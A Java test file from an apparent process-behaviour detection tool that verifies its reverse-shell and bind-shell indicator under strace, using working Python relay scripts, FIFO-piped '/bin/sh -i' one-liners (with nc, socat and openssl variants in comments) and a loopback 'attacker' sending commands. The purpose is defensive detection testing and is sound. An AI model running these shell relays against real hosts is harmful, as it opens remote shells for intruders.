package io.procguard.ml;

import static org.assertj.core.api.Assertions.assertThat;

import io.procguard.core.process.ProcessRecord;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Schema 20: the reverse shell whose socket never touches the shell. A relay (nc, openssl s_client; here a few lines of
 * Python, which CI has) holds the connection and talks to an interactive shell through a pipe and a FIFO:
 * {@code mkfifo f; cat f | sh -i 2>&1 | RELAY > f}. Real strace runs; the feature decides, not the forest.
 */
class RelayedReverseShellTest {
    /**
     * nc in a few lines: connects to the port in argv[1], copies stdin to the socket (and half-closes it at the end of
     * stdin) and the socket to stdout until the other side hangs up.
     */
    private static final String RELAY = "import socket,sys,os,threading\n"
            + "s=socket.create_connection(('127.0.0.1',int(sys.argv[1])))\n"
            + "def up():\n"
            + "    while True:\n"
            + "        d=os.read(0,4096)\n"
            + "        if not d: break\n"
            + "        s.sendall(d)\n"
            + "    s.shutdown(socket.SHUT_WR)\n"
            + "threading.Thread(target=up,daemon=True).start()\n"
            + "while True:\n"
            + "    d=s.recv(4096)\n"
            + "    if not d: break\n"
            + "    os.write(1,d)\n";

    /**
     * socat TCP:127.0.0.1:PORT EXEC:PROGRAM[,pipes|,pty] in a few lines: connects to argv[1], forks argv[3:] on a
     * socketpair ({@code sp}), two pipes ({@code pipes}) or a pty ({@code pty}), and relays until either side ends.
     */
    private static final String RELAY_EXEC = "import os,socket,sys,select,pty\n"
            + "s=socket.create_connection(('127.0.0.1',int(sys.argv[1])))\n"
            + "mode,prog=sys.argv[2],sys.argv[3:]\n"
            + "if mode=='pty':\n"
            + "    pid,fd=pty.fork()\n"
            + "    if pid==0: os.execv(prog[0],prog)\n"
            + "    rd=wr=fd\n"
            + "elif mode=='pipes':\n"
            + "    r0,w0=os.pipe(); r1,w1=os.pipe(); pid=os.fork()\n"
            + "    if pid==0:\n"
            + "        os.dup2(r0,0); os.dup2(w1,1); os.dup2(w1,2); os.execv(prog[0],prog)\n"
            + "    os.close(r0); os.close(w1); rd,wr=r1,w0\n"
            + "else:\n"
            + "    a,b=socket.socketpair(); pid=os.fork()\n"
            + "    if pid==0:\n"
            + "        os.dup2(b.fileno(),0); os.dup2(b.fileno(),1); os.dup2(b.fileno(),2); os.execv(prog[0],prog)\n"
            + "    b.close(); rd=wr=a.fileno()\n"
            + "open_=True\n"
            + "while True:\n"
            + "    r,_,_=select.select([s,rd] if open_ else [rd],[],[],5)\n"
            + "    if not r: break\n"
            + "    if s in r:\n"
            + "        d=s.recv(4096)\n"
            + "        if d: os.write(wr,d)\n"
            + "        else: open_=False\n"
            + "    if rd in r:\n"
            + "        try: d=os.read(rd,4096)\n"
            + "        except OSError: break\n"
            + "        if not d: break\n"
            + "        s.sendall(d)\n"
            + "os.waitpid(pid,0)\n";

    private final BehaviourFeatures features = new BehaviourFeatures();

    @TempDir
    Path dir;

    @BeforeEach
    void needsStraceAndPython() {
        StraceRuns.assumeStrace();
        StraceRuns.assumePython();
    }

    /** Runs {@code sh -c SCRIPT} under strace while an attacker on loopback sends two commands and an exit. */
    private List<ProcessRecord> traceWithAttacker(String script) throws Exception {
        Files.writeString(dir.resolve("relay.py"), RELAY);
        Files.writeString(dir.resolve("relay_exec.py"), RELAY_EXEC);
        try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Thread attacker = new Thread(() -> {
                try (Socket s = listener.accept()) {
                    OutputStream out = s.getOutputStream();
                    out.write("id\ncat /etc/hostname\nexit\n".getBytes(StandardCharsets.US_ASCII));
                    out.flush();
                    s.shutdownOutput(); // the relay ends when both sides have hung up
                    s.getInputStream().readAllBytes();
                } catch (IOException ignored) {
                    // the relay may hang up first
                }
            });
            attacker.setDaemon(true);
            attacker.start();
            Path log = StraceRuns.trace(dir, StraceRuns.RECOMMENDED, "/bin/sh", "-c",
                    "cd '" + dir + "' && " + script.replace("PORT", Integer.toString(listener.getLocalPort())));
            attacker.join(10_000);
            return StraceRuns.processes(log, features);
        }
    }

    private static ProcessRecord interactiveShell(List<ProcessRecord> ps) {
        return ps.stream().filter(p -> p.argv().equals(List.of("/bin/sh", "-i"))).findFirst()
                .orElseThrow(() -> new AssertionError("no '/bin/sh -i' among " + ps.stream().map(ProcessRecord::argv).toList()));
    }

    @Test
    void anInteractiveShellFedThroughAPipeByARelayIsAReverseShell() throws Exception {
        List<ProcessRecord> ps = traceWithAttacker("rm -f f; mkfifo f; cat f | /bin/sh -i 2>&1 | /usr/bin/python3 relay.py PORT > f");

        ProcessRecord shell = interactiveShell(ps);
        assertThat(ps).as("the attacker's commands ran").anySatisfy(p -> {
            assertThat(p.ppid()).isEqualTo(shell.pid());
            assertThat(p.argv()).containsExactly("id");
        });
        assertThat(shell.features().get("net.connect_inet")).as("the shell itself never connects").isZero();
        assertThat(shell.features().get("ind.reverse_shell")).isEqualTo(1f);
        assertThat(shell.evidence()).anySatisfy(l -> assertThat(l).startsWith("execve(\"/bin/sh\", [\"/bin/sh\", \"-i\"]"));
        assertThat(ps).filteredOn(p -> p.argv().equals(List.of("cat", "f")))
                .allSatisfy(p -> assertThat(p.features().get("ind.reverse_shell")).as("cat, the FIFO's reader").isZero());
    }

    @Test
    void anInteractiveShellReadingTheFifoItselfIsAReverseShell() throws Exception {
        // the OpenSSL spelling: /bin/sh -i < s 2>&1 | openssl s_client -quiet -connect HOST:PORT > s
        List<ProcessRecord> ps = traceWithAttacker("rm -f s; mkfifo s; /bin/sh -i < s 2>&1 | /usr/bin/python3 relay.py PORT > s; rm s");

        assertThat(interactiveShell(ps).features().get("ind.reverse_shell")).isEqualTo(1f);
    }

    @Test
    void anInteractiveShellFedThroughAPipeWithNoNetworkInItsFamilyIsNot() throws Exception {
        Path log = StraceRuns.trace(dir, StraceRuns.RECOMMENDED, "/bin/sh", "-c",
                "cd '" + dir + "' && printf 'id\\nexit\\n' | /bin/sh -i 2>&1 | cat > out.txt");
        List<ProcessRecord> ps = StraceRuns.processes(log, features);

        assertThat(interactiveShell(ps).features().get("ind.reverse_shell")).isZero();
    }

    @Test
    void aShellRunningAScriptFromTheNetworkIsNoRelayShell() throws Exception {
        // curl URL | sh: commands from a pipe whose writer is online, but no -i: an installer's way, not this rule's
        List<ProcessRecord> ps = traceWithAttacker("/usr/bin/python3 relay.py PORT < /dev/null | /bin/sh > out.txt 2>&1");

        ProcessRecord shell = ps.stream().filter(p -> p.argv().equals(List.of("/bin/sh"))).findFirst().orElseThrow();
        assertThat(shell.features().get("ind.reverse_shell")).isZero();
    }

    @Test
    void anInteractiveShellOnATerminalDeviceInAnOnlineFamilyIsNot() throws Exception {
        // stdin /dev/null (a device, as a terminal is) while a sibling holds a connection
        List<ProcessRecord> ps = traceWithAttacker("/usr/bin/python3 relay.py PORT < /dev/null > out.txt & sleep 1; /bin/sh -i < /dev/null; wait");

        assertThat(ps).as("the sibling relay").anySatisfy(p -> assertThat(p.features().get("net.connect_inet")).isEqualTo(1f));
        assertThat(interactiveShell(ps).features().get("ind.reverse_shell")).isZero();
    }

    @ParameterizedTest(name = "socat EXEC:{1},{0}")
    @CsvSource({"sp, /bin/sh", "pipes, /bin/sh", "pty, /bin/sh -i"})
    void aShellThatAConnectedRelayForksIsAReverseShell(String mode, String shell) throws Exception {
        // Schema 21: socat TCP:HOST:PORT EXEC:/bin/sh (a socketpair), ...,pipes, EXEC:'sh -i',pty; the shell never sees
        // the socket, its parent holds it
        List<ProcessRecord> ps = traceWithAttacker("/usr/bin/python3 relay_exec.py PORT " + mode + " " + shell);

        ProcessRecord sh = ps.stream().filter(p -> p.argv().equals(List.of(shell.split(" ")))).findFirst().orElseThrow();
        assertThat(ps).as("the attacker's commands ran").anySatisfy(p -> {
            assertThat(p.ppid()).isEqualTo(sh.pid());
            assertThat(p.argv()).containsExactly("id");
        });
        assertThat(sh.features().get("net.connect_inet")).as("the shell itself never connects").isZero();
        assertThat(sh.features().get("ind.reverse_shell")).isEqualTo(1f);
        if (!mode.equals("pty")) {
            assertThat(sh.evidence()).as("the relay's end on its stdin").anySatisfy(l -> assertThat(l).startsWith("dup2(")
                    .contains(mode.equals("sp") ? "UNIX-STREAM" : "pipe:["));
        }
    }

    @Test
    void aCiAgentFeedingItsJobToAShellHasNoReverseShell() throws Exception {
        // GitLab Runner's shell executor: connected to its coordinator, it pipes the job's script into bash; here the
        // relay under that name (an exclusion by name: a renamed attacker binary evades it)
        Path agent = dir.resolve("gitlab-runner");
        Files.copy(TrainedModels.PYTHON.toRealPath(), agent);
        agent.toFile().setExecutable(true);
        List<ProcessRecord> ps = traceWithAttacker("./gitlab-runner relay_exec.py PORT pipes /bin/sh");

        ProcessRecord sh = ps.stream().filter(p -> p.argv().equals(List.of("/bin/sh"))).findFirst().orElseThrow();
        assertThat(ps).as("the job ran").anySatisfy(p -> assertThat(p.argv()).containsExactly("id"));
        assertThat(sh.features().get("ind.reverse_shell")).isZero();
    }

    @Test
    void aConnectedProcessRunningShellCommandsOrScriptsHasNoReverseShell() throws Exception {
        // an application that went online and then runs sh -c, a script, or a shell reading /dev/null
        Files.writeString(dir.resolve("job.sh"), "echo job\n");
        String app = "import socket,subprocess,sys\n"
                + "s=socket.create_connection(('127.0.0.1',int(sys.argv[1])))\n"
                + "subprocess.run(['/bin/sh','-c','echo done'])\n"
                + "subprocess.run(['/bin/sh','job.sh'])\n"
                + "subprocess.run(['/bin/sh'],stdin=subprocess.DEVNULL)\n";
        Files.writeString(dir.resolve("app.py"), app);
        List<ProcessRecord> ps = traceWithAttacker("/usr/bin/python3 app.py PORT > out.txt");

        assertThat(Files.readString(dir.resolve("out.txt"))).isEqualTo("done\njob\n");
        ProcessRecord appProcess = ps.stream().filter(p -> p.argv().contains("app.py")).findFirst().orElseThrow();
        assertThat(ps.stream().filter(p -> p.ppid() == appProcess.pid()).toList()).hasSize(3)
                .allSatisfy(p -> assertThat(p.features().get("ind.reverse_shell")).as("%s", p.argv()).isZero());
    }

    /**
     * socat TCP-LISTEN:PORT,fork EXEC:PROGRAM in a few lines: listens on a loopback port it writes to {@code argv[1]},
     * accepts one connection, forks a child for it (no exec, as socat does), which forks {@code argv[2:]} on a socketpair
     * and relays. With {@code argv[2] == "-c"} the child runs {@code sh -c 'echo served'} instead, as an application
     * would.
     */
    private static final String BIND_EXEC = "import os,socket,sys,select\n"
            + "l=socket.socket(); l.bind(('127.0.0.1',0)); l.listen(1)\n"
            + "open(sys.argv[1]+'.tmp','w').write(str(l.getsockname()[1])); os.rename(sys.argv[1]+'.tmp',sys.argv[1])\n"
            + "c,_=l.accept()\n"
            + "if os.fork()==0:\n"
            + "    l.close()\n"
            + "    if sys.argv[2]=='-c':\n"
            + "        os.waitpid(os.spawnv(os.P_NOWAIT,'/bin/sh',['/bin/sh','-c','echo served']),0); c.sendall(b'ok'); os._exit(0)\n"
            + "    a,b=socket.socketpair(); pid=os.fork()\n"
            + "    if pid==0:\n"
            + "        os.dup2(b.fileno(),0); os.dup2(b.fileno(),1); os.dup2(b.fileno(),2); os.execv(sys.argv[2],sys.argv[2:])\n"
            + "    b.close(); s=c\n"
            + "    while True:\n"
            + "        r,_,_=select.select([s,a],[],[],5)\n"
            + "        if not r: break\n"
            + "        if s in r:\n"
            + "            d=s.recv(4096)\n"
            + "            if not d: break\n"
            + "            a.sendall(d)\n"
            + "        if a in r:\n"
            + "            d=a.recv(4096)\n"
            + "            if not d: break\n"
            + "            s.sendall(d)\n"
            + "    os.waitpid(pid,0); os._exit(0)\n"
            + "c.close(); os.wait()\n";

    /** Traces {@code SERVER port ARGS...} while this JVM connects to it, sends two commands and an exit, and reads. */
    private List<ProcessRecord> traceBindShell(String server, String... args) throws Exception {
        Files.writeString(dir.resolve("bind_exec.py"), BIND_EXEC);
        Path portFile = dir.resolve("port");
        Files.deleteIfExists(portFile); // the last run's
        Thread attacker = new Thread(() -> {
            try {
                for (int i = 0; i < 1500 && !Files.exists(portFile); i++) {
                    Thread.sleep(20);
                }
                try (Socket s = new Socket(InetAddress.getLoopbackAddress(), Integer.parseInt(Files.readString(portFile).trim()))) {
                    s.getOutputStream().write("id\ncat /etc/hostname\nexit\n".getBytes(StandardCharsets.US_ASCII));
                    s.getInputStream().readAllBytes();
                }
            } catch (IOException | InterruptedException | NumberFormatException ignored) {
                // the trace shows what arrived
            }
        });
        attacker.setDaemon(true);
        attacker.start();
        List<String> command = new java.util.ArrayList<>(List.of(server, dir.resolve("bind_exec.py").toString(), portFile.toString()));
        command.addAll(List.of(args));
        Path log = StraceRuns.trace(dir, StraceRuns.RECOMMENDED, command.toArray(String[]::new));
        attacker.join(10_000);
        return StraceRuns.processes(log, features);
    }

    @Test
    void aShellThatAnAcceptingRelayForksIsABindShell() throws Exception {
        // Schema 22: socat TCP-LISTEN:PORT,fork EXEC:/bin/sh; the per-connection child holds the accepted socket
        List<ProcessRecord> ps = traceBindShell(TrainedModels.PYTHON.toString(), "/bin/sh");

        ProcessRecord sh = ps.stream().filter(p -> p.argv().equals(List.of("/bin/sh"))).findFirst()
                .orElseThrow(() -> new AssertionError("no /bin/sh among " + ps.stream().map(ProcessRecord::argv).toList()));
        assertThat(ps).as("the attacker's commands ran").anySatisfy(p -> assertThat(p.argv()).containsExactly("id"));
        assertThat(sh.features().get("net.accept_log")).as("the shell itself accepts nothing").isZero();
        assertThat(sh.features().get("ind.reverse_shell")).isEqualTo(1f);
    }

    @Test
    void anAcceptingServerRunningAShellCommandOrARemoteLoginServerHasNoBindShell() throws Exception {
        // an application that accepted and runs sh -c; and the same relay under sshd's name (an exclusion by name: a
        // renamed attacker binary evades it, which is why indicators are features, not verdicts)
        List<ProcessRecord> ps = traceBindShell(TrainedModels.PYTHON.toString(), "-c");
        assertThat(ps).filteredOn(p -> p.argv().equals(List.of("/bin/sh", "-c", "echo served"))).singleElement()
                .satisfies(p -> assertThat(p.features().get("ind.reverse_shell")).isZero());

        Path sshd = dir.resolve("sshd");
        Files.copy(TrainedModels.PYTHON.toRealPath(), sshd);
        sshd.toFile().setExecutable(true);
        ps = traceBindShell(sshd.toString(), "/bin/sh");
        assertThat(ps).filteredOn(p -> p.argv().equals(List.of("/bin/sh"))).singleElement()
                .satisfies(p -> assertThat(p.features().get("ind.reverse_shell")).as("a shell sshd forks").isZero());
    }
}
